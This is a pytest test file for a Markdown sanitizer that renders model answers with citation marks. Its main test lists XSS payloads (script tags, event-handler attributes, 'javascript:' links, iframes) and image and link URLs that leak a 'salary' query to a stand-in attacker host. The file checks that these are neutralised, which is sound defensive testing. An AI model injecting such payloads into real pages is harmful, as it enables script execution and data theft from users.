"""A model's Markdown shows as text and can neither load, run nor lead anywhere."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from app.ui.safe_markdown import Mark, safe_markdown

MARKS = {1: Mark("source/a/1?lang=en", 'handbook.pdf, p. 3\n“15 days” & "more"'), 2: Mark()}


class Tags(HTMLParser):
    """All tags with their attributes, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=https://evil.example/x.png onerror=alert(1)>",
        "![secret](https://evil.example/?q=salary)",
        "![a](data:image/png;base64,AAAA)",
        "[click](https://evil.example/?q=salary)",
        "[click][1]\n\n[1]: https://evil.example",
        "<https://evil.example>",
        "[x](javascript:alert(1))",
        "<iframe src=//evil.example></iframe>",
        "a <b onclick=alert(1)>b</b>",
        "<style>*{background:url(https://evil.example)}</style>",
        "```html\n<script>alert(1)</script>\n```",
        '```js" onmouseover="alert(1)\nx\n```',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "[1](https://evil.example)",
        "<!-- [1] --> <svg onload=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ],
)
def test_nothing_loads_runs_or_leads_away(hostile: str):
    found = Tags(safe_markdown(hostile, MARKS))
    allowed = {
        "p",
        "sup",
        "a",
        "span",
        "pre",
        "code",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "br",
        "em",
    }
    assert {tag for tag, _ in found.tags} <= allowed
    for tag, attributes in found.tags:
        linked = {"href", "title", "target", "rel"}
        assert set(attributes) <= (linked if tag == "a" else {"class", "title", "style"})
        assert attributes.get("href") in (None, MARKS[1].href)
        assert re.fullmatch("(text-align:(left|right|center))?", attributes.get("style") or "")


def test_a_link_shows_where_it_would_have_led():
    assert Tags(safe_markdown("[the policy](https://example.com/a?b=c)")).text.strip() == (
        "the policy (https://example.com/a?b=c)"
    )
    assert Tags(safe_markdown("<https://example.com>")).text.strip() == "https://example.com"


def test_an_address_cannot_be_disguised_by_turning_letters_around():
    assert "\u202e" not in safe_markdown("[\u202egnp.elif](https://example.com)")


def test_marks_lead_to_what_they_cite():
    html = safe_markdown("15 days [1].", MARKS)
    [link] = [attributes for tag, attributes in Tags(html).tags if tag == "a"]
    assert link["href"] == "source/a/1?lang=en"
    assert link["title"] == MARKS[1].title


def test_a_mark_without_a_place_is_a_chip_that_leads_nowhere():
    found = Tags(safe_markdown("so far [2]", MARKS))
    assert ("sup", {"class": "d-mark"}) in found.tags
    assert "a" not in [tag for tag, _ in found.tags]


@pytest.mark.parametrize("text", ["[1, 2]", "[1][2]", "【1】【2】", "[1,2]"])
def test_all_ways_to_write_marks_are_read(text: str):
    assert [tag for tag, _ in Tags(safe_markdown(text, MARKS)).tags].count("sup") == 2


@pytest.mark.parametrize("text", ["[9]", "[1, 9]", "[2024]", "`[1]`", "[]"])
def test_what_is_no_mark_stays_as_it_is_written(text: str):
    found = Tags(safe_markdown(text, MARKS))
    assert "sup" not in [tag for tag, _ in found.tags]
    assert found.text.strip() == text.strip("`")


def test_lists_tables_emphasis_and_korean_are_drawn():
    html = safe_markdown(
        "**연차**는 *15일*입니다.\n\n- 하나\n- 둘\n\n| 항목 | 값 |\n|---|---|\n| 연차 | 15 [1] |", MARKS
    )
    tags = [tag for tag, _ in Tags(html).tags]
    assert {"strong", "em", "ul", "li", "table", "td", "sup"} <= set(tags)


def test_an_unfinished_answer_is_drawn_at_every_length():
    text = "**Leave** is `15 days` [1]\n\n| a | b |\n|---|---|\n| [x](http://e.com) | ~~c~~ |\n\n```\ncode"
    for length in range(len(text)):
        assert safe_markdown(text[:length], MARKS) is not None


@pytest.mark.parametrize(
    "text", ["> " * 3000 + "x", "[" * 20_000, "*a " * 20_000, "`" * 20_000, "![" * 9_000]
)
def test_a_hostile_text_takes_no_longer_than_a_test_may(text: str):
    assert safe_markdown(text, MARKS)
